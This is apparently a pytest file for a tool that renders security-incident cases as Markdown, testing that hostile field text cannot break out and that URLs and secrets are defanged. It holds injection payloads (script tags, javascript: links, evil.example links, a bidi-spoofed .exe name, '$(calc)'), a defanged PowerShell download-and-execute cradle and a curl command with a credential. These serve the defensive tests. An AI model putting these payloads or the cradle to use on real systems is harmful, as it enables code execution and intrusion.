"""A case as Markdown: read by a Markdown parser, as whoever it is pasted to would."""

from __future__ import annotations

from itertools import pairwise
from typing import Any, cast

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from enricher.core.document import CaseDocument
from enricher.core.markdown import markdown
from tests.web.fakes import bare_document, critical_document

OURS = {
    "heading",
    "paragraph",
    "bullet_list",
    "ordered_list",
    "list_item",
    "inline",
    "text",
    "softbreak",
    "code_inline",
    "fence",
}
OURS |= {"strong"}
HOSTILE = [
    "<script>alert(1)</script>",
    "```\n# broken out\n```",
    "a ` b `` c ``` d",
    "`",
    "[click](javascript:alert(1))",
    "x[.](https://evil.example)",
    "![x](https://evil.example/p.png)",
    "[a]: https://evil.example",
    "@channel <!channel> <@U1>",
    "**bold** _em_ ~~gone~~ | a | b |",
    "# heading",
    "- item\n1. item\n> quote",
    "www.evil.example and HTTPS://evil.example",
    "a\\",
    "\u202egnp.exe\u2066",
    "\r\n---\r\n",
    "&lt;b&gt; &amp;",
    "_under_score_",
    "$(calc) ^sup^ {code}",
]


def tokens(text: str) -> list[Token]:
    """Every token, those inside lines too, with tables and bare links recognised."""
    found: list[Token] = []
    for token in MarkdownIt("commonmark", {"linkify": False}).enable("table").enable("strikethrough").parse(text):
        found += [token, *(token.children or [])]
    return found


def shapes(text: str) -> set[str]:
    return {token.type.removesuffix("_open").removesuffix("_close") for token in tokens(text)}


def headings(text: str) -> list[str]:
    found = tokens(text)
    return [after.content for token, after in pairwise(found) if token.type == "heading_open"]


def poisoned(value: Any, text: str) -> Any:
    """The same shape with every text replaced."""
    if isinstance(value, str):
        return text
    if isinstance(value, dict):
        return {name: poisoned(item, text) for name, item in value.items()}
    return [poisoned(item, text) for item in value] if isinstance(value, list) else value


def full() -> CaseDocument:
    hunt = {"title": "hosts of the tenant", "query": "_index=x | count by host", "url": None}
    return cast("CaseDocument", {**critical_document(), "hunts": [hunt]})


def test_it_says_what_the_page_says() -> None:
    said = markdown(
        full(), url="https://e.example/cases/enricher-1", tickets=[("SEC-12", "https://jira.example/browse/SEC-12")]
    )
    for line in (
        "# Critical 98: `powershell.exe` → `example-lab[.]workers[.]dev` on `ws-fin-0142.corp.example`",
        "- Ticket: SEC-12 <https://jira.example/browse/SEC-12>",
        "- Case: `enricher-2412d6c5edbed00f` <https://e.example/cases/enricher-1>",
        "- **+30** = 30 `platform.score`: Cloudflare Workers, weight 5 × 6, name from dns_same_process (factor 1.0)",
        "- not taken, +8 `context.server`: host is a workstation",
        "- Tuning rule `TUN-0031` (nothing was changed): cap at medium",
        "→ `EXCEL.EXE` (history)",
        "IEX (iwr hxxps://beacon-7f[.]example-lab[.]workers[.]dev/t -UseBasicParsing)",
        "1. Isolate ws-fin-0142.corp.example and keep its memory.",
        "_index=x | count by host",
    ):
        assert line in said.splitlines()
    assert "workers.dev" not in said
    assert headings(said)[1:] == ["Why critical", "Lineage", "Missing", "Next steps", "Searches"]
    assert said.endswith("count by host\n```\n")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text: str) -> None:
    said = markdown(poisoned(full(), text))
    assert shapes(said) <= OURS
    assert headings(said)[-4:] == ["Lineage", "Missing", "Next steps", "Searches"]
    assert not set("\u202e\u2066\r") & set(said)
    prose = "".join(token.content for token in tokens(said) if token.type == "text")
    assert not any(sign in prose for sign in ("@", "<", "://", "www.", "|"))


@given(st.text(alphabet="`*_[](){}<>#!|\\\n\t -+=~.:@&1a\u202e", max_size=40))
def test_no_text_breaks_out(text: str) -> None:
    said = markdown(poisoned(full(), text))
    assert shapes(said) <= OURS
    assert headings(said)[-4:] == ["Lineage", "Missing", "Next steps", "Searches"]


@pytest.mark.parametrize("line", ["a ` b", "``` ````` ```", "`", "x\n```\ny"])
def test_a_command_line_is_whole_inside_its_fence(line: str) -> None:
    document = critical_document()
    document["process"]["command_line"] = line
    fences = [token.content for token in tokens(markdown(document)) if token.type == "fence"]
    assert f"{line}\n" in fences


def test_the_address_of_a_ticket_may_have_a_query() -> None:
    url = "https://snow.example/nav_to.do?uri=incident.do%3Fsys_id%3D1&x=1"
    assert f"- Ticket: INC1 <{url}>" in markdown(critical_document(), tickets=[("INC1", url)]).splitlines()


def test_secrets_are_masked() -> None:
    document = critical_document()
    document["process"]["command_line"] = "curl -u admin:hunter2hunter2 https://a.example"
    said = markdown(document)
    assert "hunter2" not in said
    assert "hxxps://a[.]example" in said


def test_what_is_long_is_cut_and_says_so() -> None:
    document = critical_document()
    document["process"]["command_line"] = "x" * 10_000
    document["ledger"] = document["ledger"] * 100
    document["missing"] = ["m"] * 30
    said = markdown(document)
    assert "… 8,000 more characters" in said
    assert "- … 940 more, see the case" in said
    assert "- … 10 more, see the case" in said


def test_a_case_of_which_nothing_is_known_has_a_text() -> None:
    said = markdown(bare_document())
    assert said.startswith("# Informational 0: `unknown process` → `unknown destination` on `a host that is not known`\n")
    assert "Undecided: 0 of 100 is informational." in said
    assert "None" not in said


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "https://e.example/a b", "https://e.example/>x", "https://e.example/`", None]
)
def test_an_address_of_unusual_characters_is_left_out(url: str | None) -> None:
    assert "- Case: `enricher-2412d6c5edbed00f`" in markdown(critical_document(), url=url).splitlines()
